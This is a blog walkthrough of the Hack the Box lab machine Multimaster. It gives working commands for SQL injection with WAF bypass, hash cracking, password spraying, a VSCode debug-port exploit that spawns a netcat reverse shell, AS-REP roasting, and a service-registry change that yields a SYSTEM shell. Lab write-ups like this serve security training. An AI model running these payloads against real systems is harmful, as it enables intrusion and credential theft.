April 20, 2020

Hack the Box - Multimaster

Posted on April 20, 2020  •  11 minutes  • 2323 words

Hey everyone, today we are tackling the Hack the Box machine - Multimaster. This is a Windows box with an Insane difficulty rating! Let’s dive in!

As usual, we start with our nmap: nmap -sC -sV -p- -oA allscan

Here are our results:

Nmap scan report for
Host is up (0.045s latency).
Not shown: 65513 filtered ports
53/tcp    open  domain?
| fingerprint-strings:
|   DNSVersionBindReqTCP:
|     version
|_    bind
80/tcp    open  http          Microsoft IIS httpd 10.0
| http-methods:
|_  Potentially risky methods: TRACE
|_http-server-header: Microsoft-IIS/10.0
|_http-title: MegaCorp
88/tcp    open  kerberos-sec  Microsoft Windows Kerberos (server time: 2020-04-20 19:44:02Z)
135/tcp   open  msrpc         Microsoft Windows RPC
139/tcp   open  netbios-ssn   Microsoft Windows netbios-ssn
389/tcp   open  ldap          Microsoft Windows Active Directory LDAP (Domain: MEGACORP.LOCAL, Site: Default-First-Site-Name)
445/tcp   open  microsoft-ds  Windows Server 2016 Standard 14393 microsoft-ds (workgroup: MEGACORP)
464/tcp   open  kpasswd5?
593/tcp   open  ncacn_http    Microsoft Windows RPC over HTTP 1.0
636/tcp   open  tcpwrapped
3268/tcp  open  ldap          Microsoft Windows Active Directory LDAP (Domain: MEGACORP.LOCAL, Site: Default-First-Site-Name)
3269/tcp  open  tcpwrapped
3389/tcp  open  ms-wbt-server Microsoft Terminal Services
| rdp-ntlm-info:
|   Target_Name: MEGACORP
|   NetBIOS_Domain_Name: MEGACORP
|   NetBIOS_Computer_Name: MULTIMASTER
|   Product_Version: 10.0.14393
|_  System_Time: 2020-04-20T19:46:20+00:00
| ssl-cert: Subject: commonName=MULTIMASTER.MEGACORP.LOCAL
| Not valid before: 2020-03-08T09:52:26
|_Not valid after:  2020-09-07T09:52:26
|_ssl-date: 2020-04-20T19:46:59+00:00; +9m50s from scanner time.
5985/tcp  open  http          Microsoft HTTPAPI httpd2.0 (SSDP/UPnP)
|_http-server-header: Microsoft-HTTPAPI/2.0
|_http-title: Not Found
9389/tcp  open  mc-nmf        .NET Message Framing
49666/tcp open  msrpc         Microsoft Windows RPC
49667/tcp open  msrpc         Microsoft Windows RPC
49674/tcp open  ncacn_http    Microsoft Windows RPC over HTTP 1.0
49675/tcp open  msrpc         Microsoft Windows RPC
49676/tcp open  msrpc         Microsoft Windows RPC
49699/tcp open  msrpc         Microsoft Windows RPC
49744/tcp open  msrpc         Microsoft Windows RPC
1 service unrecognized despite returning data. If you know the service/version, please submit the following fingerprint at :
Service Info: Host: MULTIMASTER; OS: Windows; CPE: cpe:/o:microsoft:windows

Host script results:
|_clock-skew: mean: 1h33m50s, deviation: 3h07m50s, median: 9m50s
| smb-os-discovery:
|   OS: Windows Server 2016 Standard14393 (Windows Server 2016 Standard 6.3)
|   Computer name: MULTIMASTER
|   NetBIOS computer name: MULTIMASTER\x00
|   Domain name: MEGACORP.LOCAL
|   Forest name: MEGACORP.LOCAL
|_  System time: 2020-04-20T12:46:20-07:00
| smb-security-mode:
|   account_used: <blank>
|   authentication_level: user
|   challenge_response: supported
|_  message_signing: required
| smb2-security-mode:
|   2.02:
|_    Message signing enabled and required
| smb2-time:
|   date: 2020-04-20T19:46:23
|_  start_date: 2020-04-20T00:16:29

Servicedetection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 624.03 seconds

As we can see, it looks like a pretty standard Windows server setup. We get the domain name from the scan as well as a hostname. We’ll add these to our hosts file and head over to see what might be hosted on port 80.

We see land on a page that is called the Employee Hub.

Before we tart poking around the source of this page, let’s kick off a gobuster to see what we might be able to find.

Command: gobuster dir -u multimaster.megacorp.local -w/usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -t 40 -s 200,302

In this case we’re specifying the -s to only show codes for 200 and 302, otherwise we are flooded with 403.

We’ll start browsing the site to see what type ofinformation we can find. When we click on the ‘Colleague Finder’ We are given a list of users with email. We’ll save these names and emails and add them to a list. Once we have them in a list it looks like this:

We want to clean that up we delete all the lines with spaces in them.

Command: cat users.txt | sed '/.*\ .*/g' | sed '/^$/d' | sed '/CEO/d' | sed '/MinatoTW/d' | sed '0,/egre55/{/egre55/d};' > email.lst

Then we can create a file with just usernames in it with the following

Command: cat email.lst | sed -r 's/.{13}$//' > username.lst

Now that we have our user list cleaned up we can take a peek at what’s is happening behind the scenes. We’ll load up Burpsuite and start listening on our POST requests.

When we look at the request on the search page, we see that the POST is sent to /api/getColleagues. The /api url is something we might want to fuzz as well.

If we send this request to repeater inside Burpsuite, we can start fuzzing it. Sending special characters to the field yeilds some interesting responses. When we send ' we get a 403, when we send a * we get nothing back. If we send a % we get everyone back. This would lead you to believe there is some kind of potential SQL injection here. Another thing of note is we often get back just dead brackets [] So there could be some kind of ingress / egress filtering happening. Below is a small clip showing that we can use some basic WAF bypass techniques to show there does seem to be some kind of WAF.

While doingresearch on this, I came accross this resource that suggested using \u to send Unicode in a Hex format.

This seems to give us a valid value back. Luckily for us, SQLMap provides a way for us to create what’s called a Tamper Script to fuzz / inject this request.

We need to save the current request we have in BurpSuite and repaced the unicode in the JSON with a %. This tell SQLMap to fuzz the field. We also need to give it a delay to bypass whatever WAF is happening.

Command: sqlmap -r request.txt --tamper charunicodeescape --dbs -delay 3

We finally are able to start exploring the DB structure. We can spend time to find the tables we want and extract the hashes. We finally get them as well as a list of usernames. We see that some of the hashes are duplicate, so we actually only have 4 hashes, we’ll send to hashcat.

Command: hashcat-m 17900 -D 1 -a 0 -n 10 .\hashes.txt .\rockyou.txt -o out.txt —force

I run hashcat on my Windows machine, so you’re command might be slightly different.That runs and we have three matches:

![](/images/2020/05/image-70.png" caption=")

Now we have a list of passwords and a list of users, but when we run them nothing matches. It looks like we’ll need to find another way to enumerate users within the domain. Research lead me here since I knew there was already a Metasploit module for AD enumeration via SQL and SQLi. What’s important here is that we can see on line 153 the SQL command Metasploit runs to enumerate Domain SID. So we can combine our knowledge of the SQL statment used to craft an SQL Injection to obtain the Domain Admin RID. Eventually we create the following injection:

Command: -' union select 1,2,3,4,(select (select stuff(upper(sys.fn_varbintohexstr((SELECT USER_SID('MEGACORP\Domain Admins')))), 1, 2, '')))-- -

Now we need to encode it. I used this site to format the string intially. Then a quick find and replace (Find: 0x Replace with: \u00) to format it appropriately. We send it to repeater in Burpsuite and get our RID back!

Now that we know the Domain RID we can determine the SID. The RIDis the base for all of the SID’s on the domain. The first 48 bytes of the RID above gives us our base SID: 0x0105000000000005150000001C00D1BCD181F1492BDFC236. We can use it to enumerate users and groups based on this module . Wemodify our SQL statment to be:

Command: -' union select 1,2,3,4,SUSER_SNAME(0x0105000000000005150000001C00D1BCD181F1492BDFC23600020000)-- -

When we run it, sure enough we get back the group associated - Domain Admins, as expected.

Now our PoC works, we just need to wrap it up into something more efficient and repeat the process over and over. Under ‘Manually Enumerating Domains’ on this resource , we are told the process we need to follow to enumerate every domain user.

This is done best in python. Here’s a link to my script. After we run it, these are the results we get:

Awesome, now we have a list of usernames to append to our username listing. We can now retry a spray against the domain with these new users added to the list.

Command: hydra -L username.lst -P passwords smb

We get a matching set! Now we can use Evil-WinRM to log in as this user.

Command: Evil-WinRM -i multimaster.megacorp.local -u tushikikatomo -p finance1

We get connected and download our User.txt flag! Now that we are on the inside we need to start enumerating internally. For windows machines I like to run WinPEAS as well as Bloodhound. First we’ll upload our <code>SharpHound</code> executatble and run it.

Commands: upload ~/Tools/SharpHound.exe .\SharpHound.exe

We’lldownload the output from SharpHound then we’ll upload winPEAS the same way.

Command: download

Commands: upload ~/Tools/winPEAS.bat .\winPEAS.bat

WinPEAS didn’t return much of anything. Once we load the data into BloodHound, we can start to view the data visually. We will issue the following custom query:

Match (n:Group) WHERE CONTAINS "" return n

This will return all the groups in the domain. This will allow us to inspect them and see the relationships, if any, between other objects.

As we sift through the groups, we see one noted as Developers with 4 direct members.

What is of interest here is we have Jorden’s account with also has haccess to the Server Operators group.

It would seem like this could be our path forward but how. We’ll need to enumerate further. Our winPEAS results weren’t that great but that can often be the case when permissions are lacking. I generally do a second round of enumeration on every box by hand for missing links. In this case, we will issue the PowerShell command get-process to see what’s running on the current system.

In this case, we see the process Code quite a few times. A quick google shows us that this is VSCode. We can confirm this by heading to C:\Program Files\ and indeed see VSCode listed.

Google for Visual Studio Code CVE shows that there have been some recent vulnerabilities. This post in particular is interesting. Now we have two potential vectors here. One using a Metasploit payload and creating a port forward of theports and executing the PoC code listed. Or we can use this GitHub tool. This lets us interact with the debug ports in a malicious way. We can upload this tool as well as netcat to get a shell.

Commands: upload nc.exe upload cefdebug

With these two on the system we can use cefdebug.exe to check what port might be listening since it’s random.

Command: .\cefdebug.exe

Now that we know our port, we can issue a remote command like noted in the documentation. The port is changing every 20 seconds or so, so we’ll need to create our payload ahead of time so we can be time efficient.


.\cefdebug.exe --url ws:// --code "process.mainModule.require('child_process').exec('cmd.exe /c C:\Users\alcibiades\Documents\nc.exe 7777 -e powershell.exe')"

When we run it, we get a connection back as cyork.

Now we need to start enumerating as this user. As we are enumerating we see an interesting DLL and PDB file in the bin directory of wwwroot.

We’ll use copy-item PowerShell command in conjunction with our own SMB server. First we spin up an SMB server:

Command: impacket-smbserver -smb2support root .Next we copy the files to that share.

Command: copy-item -Path C:\inetpub\wwwroot\bin\MultimasterAPI.dll -Destination '\\\root\' copy-item -Path C:\inetpub\wwwroot\bin\MultimasterAPI.pdb -Destination '\\\root\'

With some luck we can analyze the PDB and .DLL for some passwords. A quick strings on the .dll doesn’t give anything. When we cat the .dll we see something useful!

There is a password string - D3veL0pM3nT! Normally, I would open this file with dotPeek but this time cat got the job done! For those interested, here is it’s location within the DLL.

Under the MultimasterAPI.Controllers > HttpResponseMessage:Now with a new password, we can try to connect with it. We weren’t able to connect as the user finder but we will reuse this password for all users in the development group that we saw above. We are able to log in as sbauer.

Awesome, more enumeration! We don’t find much more in terms of access. We know that we want to gain access to the Server Operators group somehow either as Jorden or as another entity. In this scenario we want to attempt a Kerberoast of the target, but BloodHound shows us that no users have the property, DONT_REQ_PREAUTH, set accordingly. However, it looks like we actually have the ability to set it!

Command: Set-ADAccountControl -Identity jorden -doesnotrequirepreauth $true

Now with this set, we should be able to use Impackets GetNPUsers to obtain a hash.

Command: python3 megacorp.local/sbauer:"D3veL0pM3nT!" -dc-ip multimaster.htb -request

Sure enough, it works! We can now take this hash and send it to hashcat.

Command: .\hashcat64.exe -m 18200 -D 1 -a 0 -n 10 .\jorden.txt .\rockyou.txt -o jorden_out.txt --force

We see a password ofrainforest786. Now we will login as Jorden!

Still no access to our root flag yet! We need to continue to enumerate. This time winPEAS does give us what we want right away! We see that we have the ability to modify registry entries of services. Sow e can simply modify a services registry entryso that it will send a connection back touse as System!

For this to work, we need a service that is already stopped. All of the tools I would use to check the current running services are denied. So in this case, I did each int he list one at a time….

We are going to exploit the standard service weakness like we have in boxes before this.

We’ll issue the following command.

Command: reg add "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\SensorDataService" /v ImagePath /t REG_EXPAND_SZ /d "C:\tmp\nc.exe 6969 -e powershell.exe" /f

Then we start the service: sc.exe start SensorDataService

Then we get our shell back as System. Box complete!Hopefully you enjoyed this machine as much as I did. Feel free to send some respect my way on HTB if you found it helpful!

Follow meI hack things and tweet about things...